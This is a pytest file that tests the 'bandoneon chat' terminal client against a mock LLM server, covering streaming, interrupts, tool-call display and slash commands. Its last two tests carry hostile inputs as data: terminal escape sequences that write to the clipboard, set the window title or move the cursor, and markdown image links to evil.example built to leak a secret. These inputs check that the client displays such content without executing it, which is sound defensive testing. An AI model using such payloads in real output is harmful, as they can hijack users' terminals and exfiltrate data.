"""`bandoneon chat` as a person uses it: a real pseudo-terminal, keystrokes and Ctrl-C, against
the loopback mock server. Waiting for output is pexpect's job; no assertion is about time."""

from __future__ import annotations

import json
import os
import sys

import pytest

from bandoneon.testing import Fault, Reply

pexpect = pytest.importorskip("pexpect")

PROMPT = "\r\n> "


@pytest.fixture
def chat(mock_llm, tmp_path):
    """Start `bandoneon chat` in a pty against the mock server; yields the pexpect child."""
    children = []

    def start(*extra: str, model: str = "openai-compatible:mock", colour: bool = False) -> pexpect.spawn:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("BANDONEON_", "OPENAI_", "NO_COLOR"))}
        env.update(TERM="xterm", PYTHONUNBUFFERED="1", **({} if colour else {"NO_COLOR": "1"}))
        child = pexpect.spawn(
            sys.executable,
            ["-m", "bandoneon.cli", "chat", "--model", f"{model}@{mock_llm.base_url}", *extra],
            cwd=str(tmp_path),
            env=env,
            encoding="utf-8",
            timeout=60,
            dimensions=(40, 120),
        )
        children.append(child)
        child.expect("/help for commands")
        child.expect("> ")
        return child

    yield start
    for child in children:
        if child.isalive():
            child.terminate(force=True)


def test_the_reply_streams_in_before_it_is_finished(chat, mock_llm):
    mock_llm.add(Reply(text="Buenos Aires has rain tomorrow, take an umbrella.", hold_stream_after=3))
    child = chat()
    child.sendline("Will it rain?")
    child.expect("Buenos Aires")  # the first words are on screen while the server holds the rest
    assert "umbrella" not in child.before + child.after
    mock_llm.release()
    child.expect("take an umbrella.")
    child.expect(PROMPT)


def test_each_tool_call_is_one_line_and_the_answer_follows(chat, mock_llm, tmp_path):
    (tmp_path / "weather.py").write_text(
        "import bandoneon\n\n@bandoneon.tool\ndef forecast(city: str) -> str:\n    \"\"\"The forecast.\"\"\"\n    return f'rain in {city}'\n"
    )
    mock_llm.add(Reply(tool_calls=[("forecast", {"city": "Rosario"})]), Reply(text="Rain in Rosario."))
    child = chat("--tools", "weather")
    child.sendline("weather?")
    child.expect(r"  → forecast\(\{\"city\": \"Rosario\"\}\)\r\n")
    child.expect("Rain in Rosario.")
    child.expect(PROMPT)


def test_ctrl_c_stops_the_reply_and_the_chat_goes_on_with_its_history(chat, mock_llm):
    mock_llm.add(Reply(text="This answer is long and will not finish", hold_stream_after=2))
    child = chat()
    child.sendline("tell me a story")
    child.expect("This")
    child.sendintr()
    child.expect(r"\(reply stopped\)")
    child.expect(PROMPT)
    mock_llm.release()
    mock_llm.add(Reply(text="Second answer."))
    child.sendline("and now?")
    child.expect("Second answer.")
    child.expect(PROMPT)
    sent = [m["content"] for m in mock_llm.requests[-1].json["messages"] if m["role"] == "user"]
    assert sent == ["tell me a story", "and now?"]  # the first request stayed in the history
    child.sendintr()  # Ctrl-C at the prompt leaves
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_a_provider_error_is_one_line_and_the_history_survives(chat, mock_llm):
    mock_llm.add(Reply(text="First."), *[Fault(status=401)])
    child = chat()
    child.sendline("one")
    child.expect("First.")
    child.expect(PROMPT)
    child.sendline("two")
    child.expect(r"bandoneon: openai-compatible: HTTP 401[^\r\n]*\r\n")
    child.expect("> ")
    mock_llm.add(Reply(text="Third."))
    child.sendline("three")
    child.expect("Third.")
    child.expect(PROMPT)
    users = [m["content"] for m in mock_llm.requests[-1].json["messages"] if m["role"] == "user"]
    assert users == ["one", "two", "three"]


def test_ctrl_d_leaves_with_a_clean_line(chat):
    child = chat()
    child.sendeof()
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and child.signalstatus is None


def test_slash_commands_help_clear_save_and_model(chat, mock_llm, tmp_path):
    mock_llm.add(Reply(text="Noted."))
    child = chat()
    child.sendline("/help")
    child.expect("/save")
    child.expect("> ")
    child.sendline("remember 42")
    child.expect("Noted.")
    child.expect(PROMPT)
    child.sendline("/save talk.json")
    child.expect(r"saved 2 messages to talk.json")
    saved = json.loads((tmp_path / "talk.json").read_text())
    assert [m["role"] for m in saved] == ["user", "assistant"] and saved[0]["content"] == "remember 42"
    child.sendline("/model")
    child.expect("openai-compatible:mock")
    child.sendline(f"/model openai-compatible:other@{mock_llm.base_url}")
    child.expect("now talking to openai-compatible:other")
    mock_llm.add(Reply(text="Still 42."))
    child.sendline("what number?")
    child.expect("Still 42.")
    last = mock_llm.requests[-1].json
    assert last["model"] == "other" and [m["content"] for m in last["messages"] if m["role"] == "user"] == ["remember 42", "what number?"]
    child.sendline("/clear")
    child.expect("forgotten")
    mock_llm.add(Reply(text="Fresh."))
    child.sendline("hello")
    child.expect("Fresh.")
    assert [m["content"] for m in mock_llm.requests[-1].json["messages"] if m["role"] == "user"] == ["hello"]
    child.sendline("/nope")
    child.expect("unknown command /nope")


def test_line_editing_recalls_the_previous_line_with_the_up_arrow(chat, mock_llm):
    pytest.importorskip("readline")
    mock_llm.add(Reply(text="One."), Reply(text="Two."))
    child = chat()
    child.sendline("same question")
    child.expect("One.")
    child.expect(PROMPT)
    child.send("\x1b[A\r")  # up arrow, enter: the same line again
    child.expect("Two.")
    users = [m["content"] for m in mock_llm.requests[-1].json["messages"] if m["role"] == "user"]
    assert users == ["same question", "same question"]


def test_on_a_colour_terminal_tool_lines_are_dim_and_errors_red(chat, mock_llm, tmp_path):
    (tmp_path / "weather.py").write_text(
        "import bandoneon\n\n@bandoneon.tool\ndef forecast(city: str) -> str:\n    \"\"\"The forecast.\"\"\"\n    return 'rain'\n"
    )
    mock_llm.add(Reply(tool_calls=[("forecast", {"city": "Rosario"})]), Reply(text="Rain."), Fault(status=400))
    child = chat("--tools", "weather", colour=True)
    child.sendline("weather?")
    child.expect("\x1b\\[2m  → forecast")
    child.expect("Rain.")
    child.expect("> ")
    child.sendline("again")
    child.expect("\x1b\\[31mbandoneon: openai-compatible: HTTP 400")


def test_model_switches_keep_a_saved_session_and_a_typo_changes_nothing(chat, mock_llm, tmp_path):
    pytest.importorskip("bandoneon_sessions")
    mock_llm.add(Reply(text="Noted."), Reply(text="Still here."))
    child = chat("--session", "talk-1", "--session-path", str(tmp_path / "sessions"))
    child.sendline("remember 42")
    child.expect("Noted.")
    child.expect(PROMPT)
    child.sendline("/model nosuchprovider:x")
    child.expect("no provider registered for 'nosuchprovider'")
    child.sendline(f"/model openai-compatible:other@{mock_llm.base_url}")
    child.expect("now talking to openai-compatible:other")
    child.sendline("what number?")
    child.expect("Still here.")
    last = mock_llm.requests[-1].json
    assert last["model"] == "other" and [m["content"] for m in last["messages"] if m["role"] == "user"] == ["remember 42", "what number?"]


def test_a_reply_and_a_tool_call_that_carry_terminal_escapes_are_shown_not_obeyed(chat, mock_llm, tmp_path):
    (tmp_path / "weather.py").write_text(
        "import bandoneon\n\n@bandoneon.tool\ndef forecast(city: str) -> str:\n    \"\"\"The forecast.\"\"\"\n    return 'rain'\n"
    )
    mock_llm.add(
        Reply(tool_calls=[("forecast", {"city": "Rosario\x1b]0;owned\x07"})]),
        Reply(text="Rain\x1b]52;c;SGVsbG8=\x07 in \u202eoirasoR\u202c.\x1b[2K\x1b[1A"),
    )
    child = chat("--tools", "weather", colour=True)
    child.sendline("weather?")
    child.expect(r"Rosario\\u001b\]0;owned\\u0007")  # the call's arguments as JSON, which writes ESC out
    child.expect(PROMPT)
    seen = child.before
    assert "Rain\\x1b]52;c;SGVsbG8=\\x07 in \\u202eoirasoR\\u202c.\\x1b[2K\\x1b[1A" in seen
    assert "\x1b]52" not in seen and "\u202e" not in seen and "\x1b[1A" not in seen


def test_a_saved_chat_shows_tool_calls_and_results_as_code_never_rendered(chat, mock_llm, tmp_path):
    markdown_it = pytest.importorskip("markdown_it")
    page = "```\n![pixel](https://evil.example/?q=secret)\n<img src=x>"
    (tmp_path / "web.py").write_text(
        f"import bandoneon\n\n@bandoneon.tool\ndef fetch(url: str) -> str:\n    \"\"\"Fetch a page.\"\"\"\n    return {page!r}\n"
    )
    mock_llm.add(Reply(tool_calls=[("fetch", {"url": "x`` ![a](https://evil.example/b)"})]), Reply(text="Fetched."))
    child = chat("--tools", "web")
    child.sendline("fetch it")
    child.expect("Fetched.")
    child.expect(PROMPT)
    child.sendline("/save talk.md")
    child.expect("saved 4 messages to talk.md")
    tokens = markdown_it.MarkdownIt("commonmark").parse((tmp_path / "talk.md").read_text())
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}
    fences = [t.content for t in tokens if t.type == "fence"]
    assert fences == ["fetch it\n", 'fetch({"url": "x`` ![a](https://evil.example/b)"})\n', page + "\n", "Fetched.\n"]
